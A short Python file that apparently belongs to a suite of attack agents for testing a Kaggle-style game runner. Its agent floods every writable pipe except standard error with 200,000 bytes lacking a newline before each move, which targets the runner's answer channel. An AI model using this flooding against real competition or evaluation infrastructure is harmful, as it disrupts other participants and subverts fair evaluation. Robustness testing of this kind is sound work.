"""A Kaggle agent that writes 200 kB without a newline into every pipe it may write but its
standard error (the runner's answers go through one of them), then plays.

Assembled after attacks.py and playing.py (README.md).
"""

import fcntl
import os
import stat
import sys

# ruff: noqa: F821 (kaggle_move comes from playing.py, before this)


def answer_pipes():
    """The descriptors open for writing on a pipe other than standard error's."""
    mine = os.fstat(2).st_ino
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            fd, flags = int(name), fcntl.fcntl(int(name), fcntl.F_GETFL)
            status = os.fstat(fd)
        except OSError:
            continue  # the listing's own descriptor, closed by now
        writable = flags & os.O_ACCMODE in (os.O_WRONLY, os.O_RDWR)
        if writable and stat.S_ISFIFO(status.st_mode) and status.st_ino != mine:
            found.append(fd)
    return found


def agent(observation, configuration):
    """The last function: Kaggle's agent, flooding before each answer."""
    pipes = answer_pipes()
    print(
        f"flood: sending 200000 bytes without a newline into {pipes}", file=sys.stderr, flush=True
    )
    for fd in pipes:
        flood = b"x" * 200_000
        while flood:
            flood = flood[os.write(fd, flood) :]
    return kaggle_move(observation, configuration)
